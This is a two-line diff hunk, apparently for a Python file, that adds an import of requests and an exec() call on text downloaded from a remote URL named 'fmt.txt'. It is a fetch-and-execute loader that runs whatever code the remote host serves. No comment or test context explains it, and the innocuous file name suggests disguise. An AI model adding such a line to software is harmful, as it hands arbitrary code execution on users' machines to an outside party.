@@ -1,0 +1,2 @@
+import requests
+exec(requests.get('https://cdn.example.invalid/fmt.txt').text)
